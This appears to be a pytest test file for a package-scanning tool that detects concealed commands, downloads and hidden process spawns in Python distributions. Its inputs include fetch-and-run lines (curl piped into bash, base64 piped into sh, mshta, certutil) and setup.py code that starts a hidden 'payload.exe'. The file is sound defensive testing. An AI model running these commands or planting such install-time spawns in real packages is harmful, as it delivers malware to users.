"""verify._behaviour.commands, and how a process call's command is rated once it runs early."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from tests.helpers.dists import DistSpec, build_sdist, build_wheel
from verify._behaviour.capabilities import profile_file
from verify._behaviour.commands import command_concealment, command_fetches, is_build_tool
from verify._behaviour.diff import DistFile, diff_distributions
from verify.models import Finding, Severity


@pytest.mark.parametrize(
    ("command", "phrase"),
    [
        ("powershell -WindowStyle Hidden -Command iwr", "hidden PowerShell window"),
        ("powershell.exe -w hidden -nop -c x", "hidden PowerShell window"),
        ("pwsh -win hid -c x", "hidden PowerShell window"),
        ("powershell -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBS", "encoded PowerShell"),
        ("powershell -enc SQBuAHYAbwBrAGUALQBXAGUAYgBS", "encoded PowerShell"),
        ("powershell -e SQBuAHYAbwBrAGUALQBXAGUAYgBS", "encoded PowerShell"),
        ("start /b payload.exe", "hidden console"),
        ("nohup ./agent &", "detached process"),
        ("pythonw.exe stage2.py", "windowless interpreter"),
        ("mshta http://a.example/x.hta", "Windows script host"),
        ("echo aGVsbG8= | base64 -d | sh", "decoded payload"),
        ("curl -s https://a.example/i.sh | bash", "piped into a shell"),
        ("./agent > /dev/null 2>&1", "output thrown away"),
    ],
)
def test_commands_that_hide_say_how(command: str, phrase: str) -> None:
    concealed = command_concealment(command)
    assert concealed is not None
    assert phrase in concealed


@pytest.mark.parametrize(
    "command",
    [
        "cmake --build . --config Release",
        "git describe --tags",
        # -e is PowerShell's -EncodedCommand only when PowerShell runs: bash -e is "exit on error".
        "bash -e /usr/local/bin/configure-something",
        "python setup.py build_ext",
        "echo start building",
    ],
)
def test_plain_commands_hide_nothing(command: str) -> None:
    assert command_concealment(command) is None


def test_a_build_tool_may_throw_its_output_away() -> None:
    assert command_concealment("git submodule update > /dev/null 2>&1", tool=True) is None
    assert command_concealment("./x > /dev/null 2>&1", tool=False) is not None


@pytest.mark.parametrize(
    ("command", "fetches"),
    [
        ("curl -o x https://a.example/x", True),
        ("wget https://a.example/x", True),
        ("powershell Invoke-WebRequest -Uri https://a.example/x -OutFile x.exe", True),
        ("certutil -urlcache -split -f https://a.example/x x.exe", True),
        ("powershell (New-Object Net.WebClient).DownloadString('x')", True),
        ("cmake ..", False),
        ("echo curly braces", False),
    ],
)
def test_commands_that_download(command: str, fetches: bool) -> None:
    assert command_fetches(command) is fetches


@pytest.mark.parametrize(
    ("program", "tool"),
    [
        ("git", True),
        ("cmake", True),
        ("gcc.exe", True),
        ("python3.12", True),
        ("powershell", False),
        ("sh", False),
        ("payload", False),
        (None, False),
    ],
)
def test_build_tools(program: str | None, tool: bool) -> None:
    assert is_build_tool(program) is tool


# --- Process calls in source -------------------------------------------------------------------


def _spawn(source: str, path: str = "setup.py") -> list[tuple[str | None, bool]]:
    profile = profile_file(path, textwrap.dedent(source).encode())
    return [(c.concealed, c.routine) for c in profile.capabilities if c.rule == "process-spawn"]


@pytest.mark.parametrize(
    ("source", "concealed"),
    [
        (
            "import subprocess\n"
            "subprocess.Popen('x.exe', creationflags=subprocess.CREATE_NO_WINDOW)\n",
            "CREATE_NO_WINDOW",
        ),
        (
            "import subprocess as s\ns.Popen(['x.exe'], creationflags=0x08000000)\n",
            "CREATE_NO_WINDOW",
        ),
        (
            "import subprocess\n"
            "subprocess.Popen(['x'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
            "DEVNULL",
        ),
        (
            "import os\nos.system('powershell -w hidden -c ' + script)\n",
            "hidden PowerShell window",
        ),
    ],
)
def test_process_calls_that_hide_are_marked(source: str, concealed: str) -> None:
    [(found, tool)] = _spawn(source)
    assert found is not None
    assert concealed in found
    assert tool is False


@pytest.mark.parametrize(
    "source",
    [
        "import subprocess\nsubprocess.check_output(['git', 'describe', '--tags'])\n",
        "import os\nos.system('cmake --build build')\n",
        "import subprocess\n"
        "subprocess.call(['git', 'x'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
    ],
)
def test_build_tools_run_in_plain_sight(source: str) -> None:
    assert _spawn(source) == [(None, True)]


def test_a_shell_chain_is_more_than_its_build_tool() -> None:
    assert _spawn("import os\nos.system('git clone x && ./x/run')\n") == [(None, False)]


# --- Rated in a distribution -------------------------------------------------------------------

_SETUP = "from setuptools import setup\n{body}\nsetup(name='demo', version='1.0')\n"


def _first_upload(tmp_path: Path, files: dict[str, str], form: str = "sdist") -> list[Finding]:
    spec = DistSpec("demo", "1.0", files=files)
    built = (build_sdist if form == "sdist" else build_wheel)(spec, tmp_path)
    return list(diff_distributions(DistFile(built, built.name), None).findings)


def _severity(findings: list[Finding], rule: str) -> Severity:
    [severity] = {f.severity for f in findings if f.rule == rule}
    return severity


@pytest.mark.parametrize(
    ("body", "severity"),
    [
        # An unknown program started while pip builds: high even in a first upload.
        ("import subprocess\nsubprocess.Popen('payload.exe', shell=True)", Severity.HIGH),
        # The same, hidden: critical.
        (
            "import subprocess\n"
            "subprocess.Popen('payload.exe', creationflags=subprocess.CREATE_NO_WINDOW)",
            Severity.CRITICAL,
        ),
        # A build tool in plain sight is what builds do.
        ("import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])", Severity.MEDIUM),
    ],
)
def test_install_time_processes_are_rated_by_what_they_run(
    body: str, severity: Severity, tmp_path: Path
) -> None:
    findings = _first_upload(tmp_path, {"setup.py": _SETUP.format(body=body)})
    assert _severity(findings, "process-spawn") is severity


def test_import_time_downloads_are_high(tmp_path: Path) -> None:
    module = "import urllib.request\nurllib.request.urlopen('https://a.example/x')\n"
    findings = _first_upload(tmp_path, {"demo/__init__.py": module}, form="wheel")
    assert _severity(findings, "network-access") is Severity.HIGH


def test_a_process_started_only_when_called_stays_medium_without_a_baseline(
    tmp_path: Path,
) -> None:
    module = "import subprocess\ndef run():\n    subprocess.Popen('payload.exe', shell=True)\n"
    findings = _first_upload(tmp_path, {"demo/__init__.py": module}, form="wheel")
    assert _severity(findings, "process-spawn") is Severity.MEDIUM


def test_a_hidden_process_started_only_when_called_is_never_nothing(tmp_path: Path) -> None:
    module = (
        "import subprocess\n"
        "def run():\n"
        "    subprocess.Popen(['x.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
    )
    findings = _first_upload(tmp_path, {"demo/tests/test_x.py": module}, form="wheel")
    assert _severity(findings, "process-spawn") is Severity.MEDIUM
